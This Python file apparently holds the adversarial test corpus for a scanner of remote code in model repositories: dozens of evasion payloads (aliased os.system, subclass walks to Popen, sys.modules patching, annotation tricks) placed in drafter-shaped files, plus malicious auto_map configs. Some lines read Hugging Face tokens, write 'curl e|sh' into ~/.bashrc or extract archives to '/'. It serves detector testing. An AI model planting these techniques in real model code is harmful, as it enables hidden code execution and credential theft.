"""The adaptive corpus, class remote code: what an attacker who read `scan/code/` writes.

Each case reaches a capability (process, network, dynamic code, writes outside the cache,
credentials, patching how other code loads weights) through a spelling a name-based rule misses:
aliases, late bindings, attribute chains, introspection of objects and code objects, namespace
updates, default values, annotations, decorators; or hides an `auto_map` where a loader reads
it. The payload sits in a drafter-shaped file, at module level or inside `forward` (alternately),
so the gate sees it with the file reviewed. Benign twins: published drafter and modeling code
vendored in tests/scan/corpus/remote_code/ (see its MANIFEST.json).
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from pathlib import Path

# name -> payload (Python source)
PAYLOADS: dict[str, str] = {
    # aliases and late bindings
    "late-import-alias": "def run():\n    p.system('id')\nimport os as p\nrun()\n",
    "rebind-after-use": "def run():\n    p.system('id')\nimport os as p\nrun()\np = None\n",
    "module-as-default": "import os\ndef run(m=os):\n    m.system('id')\n",
    "lambda-default": "f = lambda x=__import__('os').system('id'): x\n",
    "module-returned": "import os\ndef g():\n    return os\ng().system('id')\n",
    "module-class-attribute": "import os\nclass C:\n    m = os\nC.m.system('id')\n",
    "module-in-dict": "import os\nD = {'m': os}\nD['m'].system('id')\n",
    "module-loop-variable": "import os\nfor m in (os,):\n    m.system('id')\n",
    # attribute chains through modules that re-export others
    "torch-os-chain": "import torch\ntorch.os.system('id')\n",
    "os-path-os-chain": "import os.path\nos.path.os.system('id')\n",
    "shutil-os-chain": "import shutil\nshutil.os.popen('id')\n",
    "torch-pickle-chain": "import torch\ntorch.serialization.pickle.loads(b'x')\n",
    # introspection of objects and code objects
    "lambda-globals": "f = (lambda: 0).__globals__['__builtins__']['eval']\nf('1')\n",
    "subclasses-walk": "for c in ().__class__.__base__.__subclasses__():\n"
                       "    if c.__name__ == 'Popen':\n        c(['id'])\n",
    "code-object-replace": "def f():\n    pass\nf.__code__ = f.__code__.replace(co_consts=(1,))\n",
    "function-type": "import types\ng = types.FunctionType(compile('1', 'x', 'eval'), {})\n",
    "type-of-lambda": "FT = type(lambda: 0)\ndef f():\n    pass\nh = FT(f.__code__, {})\n",
    "frame-globals": "import sys\nsys._getframe(0).f_globals['x'] = 1\n",
    "inspect-frame": "import inspect\ninspect.currentframe().f_back.f_globals.update(a=1)\n",
    "getattr-globals": "def f():\n    pass\ng = getattr(f, '__globals__')\n",
    "gc-get-objects": "import gc\nm = [o for o in gc.get_objects() if getattr(o, '__name__', '')"
                      " == 'os'][0]\nm.system('id')\n",
    # namespace updates
    "globals-update-vars": "import os\nglobals().update(vars(os))\nsystem('id')\n",
    "globals-update-dict": "import os\nglobals().update({'k': os})\nk.system('id')\n",
    "module-dict-update": "import torch\ndef ev(*a, **k):\n    pass\n"
                          "torch.__dict__.update(load=ev)\n",
    "sys-modules-store": "import sys\ndef ev(*a, **k):\n    pass\nsys.modules['torch'].load = ev\n",
    "sys-modules-update": "import sys, types\n"
                          "sys.modules.update({'safetensors': types.SimpleNamespace()})\n",
    "object-setattr": "import torch\ndef ev(*a):\n    pass\n"
                      "object.__setattr__(torch, 'load', ev)\n",
    "sys-path-augassign": "import sys\nsys.path += ['/tmp/x']\nimport evil_helper\n",
    "sys-path-insert": "import sys\nsys.path.insert(0, '/tmp/x')\nimport evil_helper\n",
    # annotations, decorators, defaults (all run when the def runs)
    "argument-annotation": "def f(x: __import__('os').system('id')):\n    pass\n",
    "return-annotation": "import os\ndef f() -> os.system('id'):\n    pass\n",
    "variable-annotation": "import os\nx: os.system('id') = 1\n",
    "string-annotation": "import typing\ndef f(x: \"__import__('os').system('id')\"):\n"
                         "    pass\ntyping.get_type_hints(f)\n",
    "lambda-decorator": "import os\n@(lambda f: os.popen('id'))\ndef g():\n    pass\n",
    # helpers that look names up by string
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('id')\n",
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
    # capabilities outside the first tables
    "process-pool": "from concurrent.futures import ProcessPoolExecutor\n"
                    "ProcessPoolExecutor().submit(print)\n",
    "xmlrpc": "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://e').x()\n",
    "asyncio-connection": "import asyncio\nasync def f():\n"
                          "    await asyncio.open_connection('e', 80)\n",
    "pip-main": "import pip\npip.main(['install', 'evil'])\n",
    "imp-load-source": "import imp\nimp.load_source('m', '/tmp/m.py')\n",
    "yaml-unsafe-loader": "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.UnsafeLoader)\n",
    "joblib-load": "import joblib\njoblib.load('x.pkl')\n",
    "shelve": "import shelve\nshelve.open('x')\n",
    "pyximport": "import pyximport\npyximport.install()\n",
    "dynamic-module-utils": "from transformers.dynamic_module_utils import "
                            "get_class_from_dynamic_module\n"
                            "get_class_from_dynamic_module('m.C', 'evil/repo')\n",
    "trust-remote-code-subscript": "from transformers import AutoModel\nkw = {}\n"
                                   "kw['trust_remote_code'] = True\n"
                                   "AutoModel.from_pretrained('evil/x', **kw)\n",
    "add-safe-globals": "import torch, collections\n"
                        "torch.serialization.add_safe_globals([collections.OrderedDict])\n",
    "global-forward-hook": "import torch\ntorch.nn.modules.module.register_module_forward_hook("
                           "lambda m, i, o: o * 0)\n",
    "copyreg-dispatch": "import copyreg\ncopyreg.dispatch_table[int] = print\n",
    "setting-to-a-function": "import torch\ndef ev(*a):\n    pass\n"
                             "torch.backends.cuda.matmul = ev\n",
    # writes outside the cache
    "path-write-chain": "import pathlib\n"
                        "pathlib.Path('~/.bashrc').expanduser().write_text('curl e|sh')\n",
    "path-home-open-append": "from pathlib import Path\n(Path.home() / '.bashrc').open('a')\n",
    "os-open": "import os\nfd = os.open('/etc/x', os.O_WRONLY | os.O_CREAT)\n",
    "torch-save-outside": "import torch\ntorch.save({}, '/home/user/.config/autostart/x')\n",
    "gzip-write-outside": "import gzip\ngzip.open('/tmp/x.gz', 'wb').write(b'x')\n",
    "tar-extractall": "import tarfile\ntarfile.open('a.tar').extractall('/')\n",
    # credentials
    "environ-computed-key": "import os\nt = os.environ['HF_' + 'TOK' + 'EN']\n",
    "environ-whole": "import os, json\nopen('log.txt', 'w').write(json.dumps(dict(os.environ)))\n",
    "environ-copy": "import os\ne = os.environ.copy()\n",
    "environb": "import os\nt = os.environb[b'HF_TOKEN']\n",
    "token-path-join": "import os\nt = open(os.path.join(os.path.expanduser('~'), '.cache', "
                       "'huggingface', 'token')).read()\n",
    "token-path-division": "from pathlib import Path\n"
                           "t = (Path.home() / '.cache' / 'huggingface' / 'token').read_text()\n",
    "hf-token-path-constant": "from huggingface_hub import constants\n"
                              "t = open(constants.HF_TOKEN_PATH).read()\n",
    "token-path-concatenated": "t = open('/root/.cache/hugging' + 'face/tok' + 'en').read()\n",
}

_HEADER = '"""DFlash drafter helpers."""\nimport torch\nfrom torch import nn\n\n\n'
_FILES = ("modeling_dflash_extra.py", ".hf/modeling_helper.py", "custom_generate/generate.py",
          "utils_draft.py")


def _in_forward(payload: str) -> str:
    body = textwrap.indent(payload, "        ")
    return f"class DraftHead(nn.Module):\n    def forward(self, x):\n{body}        return x\n"


def _lay_code(relative: str, source: str) -> Callable[[Path], None]:
    def lay(folder: Path) -> None:
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(source)
    return lay


def code_cases(payloads: dict[str, str] | None = None
               ) -> list[tuple[str, Callable[[Path], None], str]]:
    """(name, lay, culprit) for every payload (of `PAYLOADS` unless given), alternately at
    module level and in `forward`."""
    cases = []
    for index, (name, payload) in enumerate((PAYLOADS if payloads is None else payloads).items()):
        relative = _FILES[index % len(_FILES)]
        source = _HEADER + (payload if index % 2 == 0 else _in_forward(payload))
        cases.append((name, _lay_code(relative, source), relative))
    return cases


# -- auto_map wherever a loader reads it ------------------------------------------------------
def _json(relative: str, value: object) -> Callable[[Path], None]:
    def lay(folder: Path) -> None:
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(value))
    return lay


AUTO_MAP_CASES: list[tuple[str, Callable[[Path], None], str]] = [
    # AutoTokenizer's legacy list form: [slow, fast]
    ("auto-map-legacy-list", _json("tokenizer/tokenizer_config.json", {
        "auto_map": ["evil/repo--tokenization_x.Tok", None]}), "tokenizer/tokenizer_config.json"),
    ("auto-map-hidden-folder", _json(".cache2/config.json", {
        "auto_map": {"AutoModel": "modeling_gone.Model"}}), ".cache2/config.json"),
    ("auto-map-processor", _json("processor_config.json", {
        "auto_map": {"AutoProcessor": "evil/repo--processing_x.P"}}), "processor_config.json"),
    ("auto-map-preprocessor", _json("preprocessor_config.json", {
        "auto_map": {"AutoImageProcessor": "../../../usr/lib/python3/antigravity.P"}}),
     "preprocessor_config.json"),
    ("auto-map-video", _json("video_preprocessor_config.json", {
        "auto_map": {"AutoVideoProcessor": "evil/repo--video.P"}}),
     "video_preprocessor_config.json"),
    ("auto-map-image-processor", _json("vision/preprocessor_config.json", {
        "auto_map": {"AutoImageProcessor": "image_gone.P"}}), "vision/preprocessor_config.json"),
    ("peft-auto-mapping", _json("adapter_config.json", {
        "auto_mapping": {"base_model_class": "Popen", "parent_library": "subprocess"},
        "peft_type": "LORA"}), "adapter_config.json"),
]
